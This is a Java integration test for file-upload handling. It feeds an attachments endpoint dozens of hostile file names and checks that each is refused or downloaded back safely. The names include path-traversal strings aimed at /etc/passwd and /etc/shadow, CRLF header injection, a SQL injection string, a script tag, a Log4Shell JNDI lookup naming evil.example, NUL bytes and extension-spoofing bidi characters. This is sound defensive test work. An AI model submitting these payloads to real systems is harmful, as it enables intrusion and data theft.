package io.github.connectparticipant.sample;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import io.github.connectparticipant.sample.HostileHttp.Answer;
import io.github.connectparticipant.sample.HostileHttp.Req;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import static io.github.connectparticipant.sample.HostileBytes.abbreviate;
import static io.github.connectparticipant.sample.HostileBytes.bytes;
import static io.github.connectparticipant.sample.HostileBytes.concat;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Path traversal and injection in uploaded file names: each is refused with a 4xx problem
 * detail or, when legal, accepted and downloaded back with a {@code Content-Disposition}
 * that cannot inject a header or a path.
 */
class HostileFileNamesIntegrationTests extends HostileInputTestSupport {

	/**
	 * Path traversal and injection in file names: each is refused with a 4xx problem
	 * detail or, when legal, accepted and downloaded back under a safe name.
	 */
	@Test
	void hostileFileNamesAreRefusedOrDownloadSafely() {
		String attachments = link("attachments");
		Map<String, byte[]> accepted = new LinkedHashMap<>();
		int i = 0;
		for (HostileName name : hostileNames()) {
			byte[] content = bytes("hostile name #" + (++i) + ": " + name.label);
			MultipartForm form = MultipartForm.withDisposition(name.disposition, content);
			Req req = Req.of("POST", attachments).header("Content-Type", form.contentType).body(form.serialize());
			Answer answer = send(req);
			System.out.println("file name " + abbreviate(name.label) + " -> " + answer.status());
			check("file name " + name.label, answer, Expect.success(201));
			assertThat(name.expected).as(name.label + " answered " + answer.status() + ": " + answer.text())
				.contains(answer.status());
			if (answer.status() == 201) {
				JsonNode created = json.readTree(answer.body());
				assertNoPathInName(name.label, created.get("name").asString());
				accepted.put(created.get("href").asString(), content);
			}
		}
		System.out.println("file names: " + i + " tried, " + accepted.size() + " accepted");
		assertThat(accepted).as("some hostile but legal names are accepted").hasSizeGreaterThan(10);
		accepted.forEach((href, content) -> {
			Answer download = send(Req.of("GET", href));
			check("download " + href, download, Expect.success(200));
			assertThat(download.body()).as(href).isEqualTo(content);
			assertSafeDisposition(href, download.header("Content-Disposition"));
			assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
		});
		assertOnlyAcceptedAttachments(accepted.keySet());
	}

	/**
	 * A part header longer than Tomcat's limit: refused while the body is parsed.
	 */
	private static final Set<Integer> TOO_LONG_HEADER = Set.of(400, 413);

	private static List<HostileName> hostileNames() {
		Set<Integer> ok = Set.of(201);
		Set<Integer> badName = Set.of(400);
		Set<Integer> refused = Set.of(400, 415);
		Set<Integer> either = Set.of(201, 400, 415);
		List<HostileName> names = new ArrayList<>();
		// path traversal: only the last segment is kept
		names.add(HostileName.quoted("../../etc/passwd", ok));
		names.add(HostileName.quoted("../../../../../../etc/passwd.txt", ok));
		names.add(HostileName.quoted("/etc/shadow.txt", ok));
		names.add(HostileName.quoted("..\\..\\win.ini", refused)); // .ini is not an
																	// allowed type
		names.add(HostileName.quoted("..\\\\..\\\\boot.txt", ok));
		names.add(HostileName.quoted("C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts.txt", ok));
		names.add(HostileName.quoted("\\\\\\\\server\\\\share\\\\x.txt", ok));
		names.add(HostileName.quoted("%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt", ok));
		names.add(HostileName.quoted("..%c0%af..%c0%afetc.txt", ok));
		names.add(HostileName.quoted("..\uFF0F..\uFF0Fx.txt", ok));
		names.add(HostileName.encoded("..%2F..%2Fetc%2Fpasswd.txt", ok));
		names.add(HostileName.quoted("/", badName));
		names.add(HostileName.quoted("../", badName));
		names.add(HostileName.quoted("a/b/", badName));
		// only dots, hidden files, white space
		names.add(HostileName.quoted(".", ok));
		names.add(HostileName.quoted("..", ok));
		names.add(HostileName.quoted("...", ok));
		names.add(HostileName.quoted(". .", ok));
		names.add(HostileName.quoted(".txt", ok));
		names.add(HostileName.quoted("...txt", ok));
		names.add(HostileName.quoted(".htaccess", refused));
		names.add(HostileName.quoted("   ", badName));
		names.add(HostileName.quoted("  padded.txt  ", ok));
		// header injection: CR/LF, quotes, semicolons
		names.add(HostileName.raw("a.txt\r\nX-Injected: " + INJECTED, either));
		names.add(HostileName.raw("filename=\"a\r\nContent-Type: text/html\r\n\r\n<script>.txt\"", either));
		names.add(HostileName.encoded("a%0D%0AX-Injected%3A%20" + INJECTED + ".txt", badName));
		names.add(HostileName.encoded("a%0Ab.txt", badName));
		names.add(HostileName.quoted("\\\"quoted\\\".txt", ok));
		names.add(HostileName.quoted("\\\"; filename=evil.txt", ok));
		names.add(HostileName.raw("filename=\"a\"b.txt\"", either));
		names.add(HostileName.raw("filename=\"a.txt\"; filename=\"evil.exe\"", either));
		names.add(HostileName.raw("filename=x.txt; filename*=UTF-8''evil.exe", either));
		names.add(HostileName.raw("filename=unquoted;name.txt", either));
		names.add(HostileName.quoted("semi;colon.txt", ok));
		names.add(HostileName.quoted("x.txt; filename=evil.exe", refused)); // its
																			// extension
																			// is .exe
		names.add(HostileName.quoted("a=b,c;d.txt", ok));
		names.add(HostileName.quoted("'; DROP TABLE attachments;--.txt", ok));
		names.add(HostileName.quoted("<script>alert(1)<\\/script>.txt", ok));
		names.add(HostileName.quoted("${jndi:ldap://evil.example/x}.txt", ok));
		names.add(HostileName.quoted("%s%n%x.txt", ok));
		// NUL and other control characters: refused
		names.add(HostileName.raw("filename=\"a\u0000b.txt\"", badName));
		names.add(HostileName.encoded("a%00b.txt", badName));
		names.add(HostileName.encoded("name.txt%00.exe", refused));
		names.add(HostileName.quoted("bell\u0007.txt", badName));
		names.add(HostileName.quoted("tab\tname.txt", either));
		names.add(HostileName.quoted("del\u007f.txt", badName));
		names.add(HostileName.quoted("c1\u0085.txt", badName));
		// lengths
		names.add(HostileName.quoted("n".repeat(252) + ".txt", ok)); // 256: the longest
																		// allowed
		names.add(HostileName.quoted("n".repeat(253) + ".txt", badName));
		names.add(HostileName.quoted("n".repeat(300) + ".txt", badName));
		names.add(HostileName.quoted("n".repeat(5000) + ".txt", TOO_LONG_HEADER));
		names.add(HostileName.quoted("\u65e5".repeat(252) + ".txt", ok)); // 256
																			// characters,
																			// 760 bytes
																			// of UTF-8
		names.add(HostileName.quoted("\uD83D\uDCCE".repeat(120) + ".txt", ok)); // 124
																				// code
																				// points,
																				// 244
																				// chars
		// bidirectional and invisible characters: accepted, replaced in the download's
		// name
		names.add(HostileName.quoted("invoice\u202Egpj.txt", ok));
		names.add(HostileName.quoted("evil\u202Etxt.exe", refused));
		names.add(HostileName.quoted("\u202Dleft\u202Aright\u2066iso\u2069.txt", ok));
		names.add(HostileName.quoted("zero\u200Bwidth\uFEFF.txt", ok));
		names.add(HostileName.quoted("line\u2028para\u2029.txt", ok));
		names.add(HostileName.quoted("private\uE000use.txt", ok));
		names.add(HostileName.quoted("r\u00e9sum\u00e9 \u65e5\u672c.txt", ok));
		names.add(HostileName.encoded("%E2%80%AEgpj.txt", ok));
		// Windows oddities
		names.add(HostileName.quoted("CON.txt", ok));
		names.add(HostileName.quoted("nul", ok));
		names.add(HostileName.quoted("file.txt.", either));
		names.add(HostileName.quoted("file.txt:evil.exe", refused));
		names.add(HostileName.quoted("file.txt::$DATA", refused));
		// non-UTF-8 bytes in the part header
		names.add(HostileName.ofBytes("latin-1 caf\\xE9",
				concat(bytes("filename=\"caf"), new byte[] { (byte) 0xE9 }, bytes(".txt\"")), either));
		names.add(HostileName.ofBytes("invalid UTF-8 \\xC3\\x28",
				concat(bytes("filename=\""), new byte[] { (byte) 0xC3, 0x28 }, bytes(".txt\"")), either));
		names.add(HostileName.ofBytes("overlong slash in name",
				concat(bytes("filename=\".."), new byte[] { (byte) 0xC0, (byte) 0xAF }, bytes(".."),
						new byte[] { (byte) 0xC0, (byte) 0xAF }, bytes("etc.txt\"")),
				either));
		names.add(HostileName.ofBytes("lone surrogate \\xED\\xA0\\x80",
				concat(bytes("filename=\"s"), new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, bytes(".txt\"")),
				either));
		names.add(HostileName.ofBytes("\\xFF\\xFE",
				concat(bytes("filename=\""), new byte[] { (byte) 0xFF, (byte) 0xFE }, bytes(".txt\"")), either));
		// RFC 5987 oddities
		names.add(HostileName.raw("filename*=x-bogus''a.txt", either));
		names.add(HostileName.raw("filename*=UTF-8''%ZZ.txt", either));
		names.add(HostileName.raw("filename*=UTF-8''%", either));
		names.add(HostileName.raw("filename*=''", either));
		names.add(HostileName.raw("filename*=UTF-8'en'%E2%80%AE%2F..%2F.txt", either));
		names.add(HostileName.raw("filename*=ISO-8859-1''caf%E9.txt", ok));
		return names;
	}

	/** A hostile file name: the Content-Disposition parameters that carry it. */
	record HostileName(String label, byte[] disposition, Set<Integer> expected) {

		/** As a quoted {@code filename}, UTF-8, as browsers send it. */
		static HostileName quoted(String name, Set<Integer> expected) {
			return new HostileName(name, bytes("filename=\"" + name + "\""), expected);
		}

		/** As an RFC 5987 {@code filename*} (already percent-encoded). */
		static HostileName encoded(String encoded, Set<Integer> expected) {
			return new HostileName("filename*=" + encoded, bytes("filename*=UTF-8''" + encoded), expected);
		}

		/** Parameters as they are, CR/LF and all. */
		static HostileName raw(String parameters, Set<Integer> expected) {
			return new HostileName(parameters, bytes(parameters), expected);
		}

		static HostileName ofBytes(String label, byte[] parameters, Set<Integer> expected) {
			return new HostileName(label, parameters, expected);
		}

		@Override
		public String toString() {
			return this.label;
		}

	}

}
